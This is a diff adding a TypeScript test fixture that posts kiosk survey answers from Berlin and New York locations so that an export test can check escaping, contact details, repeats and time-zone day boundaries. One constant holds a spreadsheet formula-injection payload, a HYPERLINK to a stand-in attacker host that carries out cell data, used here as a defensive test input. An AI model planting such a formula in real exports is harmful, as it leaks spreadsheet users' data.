@@ -1,0 +1,110 @@
+// The answer export's fixture: answers at two locations in different time zones (Berlin and New
+// York), posted through /v1/answers as kiosks post them, with the awkward cases the export must
+// survive (a formula comment, quotes and a line break, contact details, a possible repeat, days
+// that differ between local time and UTC). staff-export.test.ts reads them back.
+import { beforeAll, expect } from 'vitest';
+import { BatchReply, type AnswerUpload } from '../../shared/protocol.ts';
+import { attachConfig } from '../../server/kiosk-api/kiosk-configs.ts';
+import { updateLocation } from '../../server/locations/store.ts';
+import { answer, call } from './collector.ts';
+import { smallConfig } from './config.ts';
+import { LOCATIONS, type StaffCollector } from './staff.ts';
+
+export const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
+export const AWKWARD = 'She said "hi", then\r\nleft, happy';
+export const CONTACT = {
+  consentVersion: 'v1',
+  name: 'Ada SECRET-NAME-4410',
+  phone: '+44 20 7946 0000',
+};
+
+/**
+ * Call it in the describe block that owns `c`: posts the fixture before the block's first test.
+ * `ids` names each answer's id by its key here; `place` holds the location and touchpoint ids.
+ */
+export function useExportFixture(c: StaffCollector) {
+  const ids: Record<string, string> = {};
+  const place = { main: 0, outlet: 0, outletDoor: 0 };
+
+  /** Posts answers as the kiosk at `where` does; `name` keys each answer's id for the checks. */
+  const post = async (where: keyof typeof LOCATIONS, list: [string, Partial<AnswerUpload>][]) => {
+    const k = LOCATIONS[where];
+    const answers = list.map(([name, over], i) => {
+      const a = answer(k.kioskId, i + 1, {
+        surveyVersion: smallConfig().survey.version,
+        startedAt: over.finalizedAt!,
+        ...over,
+      });
+      ids[name] = a.id;
+      return a;
+    });
+    const reply = await call({ url: c.url, token: c.tokens[k.kioskId]! }, 'POST', '/v1/answers', {
+      kioskId: k.kioskId,
+      sentAt: new Date().toISOString(),
+      answers,
+    });
+    expect(BatchReply.parse(reply.body).results.map((r) => r.status)).toEqual(
+      answers.map(() => 'stored'),
+    );
+  };
+
+  beforeAll(async () => {
+    await updateLocation(c.storage, LOCATIONS.main.location, { timeZone: 'Europe/Berlin' });
+    await updateLocation(c.storage, LOCATIONS.outlet.location, { timeZone: 'America/New_York' });
+    for (const k of Object.values(LOCATIONS))
+      await attachConfig(
+        c.storage,
+        k.kioskId,
+        { ...smallConfig(), kioskId: k.kioskId },
+        new Date(),
+      );
+    // Each kiosk's seqs must be 1..n: one batch per kiosk.
+    await post('main', [
+      // 09:15 in Berlin (UTC+1 in November).
+      [
+        'formula',
+        {
+          finalizedAt: '2026-11-02T08:15:00.000Z',
+          smiley: 2,
+          reasons: ['wait', 'staff'],
+          language: 'et',
+          comment: FORMULA,
+        },
+      ],
+      // The same faces again a minute later: a possible repeat.
+      ['repeat', { finalizedAt: '2026-11-02T08:16:00.000Z', smiley: 2, possibleRepeat: true }],
+      // 23:30 in Berlin, still 2 November there.
+      [
+        'awkward',
+        {
+          finalizedAt: '2026-11-02T22:30:00.000Z',
+          comment: AWKWARD,
+          contact: CONTACT,
+          status: 'partial',
+          nps: 10,
+          ces: 6,
+          talkNow: true,
+        },
+      ],
+      // 00:30 on 4 November in Berlin, though 3 November in UTC: after the period.
+      ['late', { finalizedAt: '2026-11-03T23:30:00.000Z' }],
+    ]);
+    await post('outlet', [
+      // 22:00 on 1 November in New York (UTC-5), though 2 November in UTC: before the period.
+      ['early', { finalizedAt: '2026-11-02T03:00:00.000Z' }],
+      // 22:00 on 2 November in New York, 3 November in UTC: inside.
+      ['evening', { finalizedAt: '2026-11-03T03:00:00.000Z', reasons: ['friendly'] }],
+    ]);
+    const locations = await c.storage.db.selectFrom('locations').select(['id', 'name']).execute();
+    place.main = locations.find((l) => l.name === LOCATIONS.main.location)!.id;
+    place.outlet = locations.find((l) => l.name === LOCATIONS.outlet.location)!.id;
+    place.outletDoor = (
+      await c.storage.db
+        .selectFrom('touchpoints')
+        .select('id')
+        .where('location_id', '=', place.outlet)
+        .executeTakeFirstOrThrow()
+    ).id;
+  });
+  return { ids, place };
+}
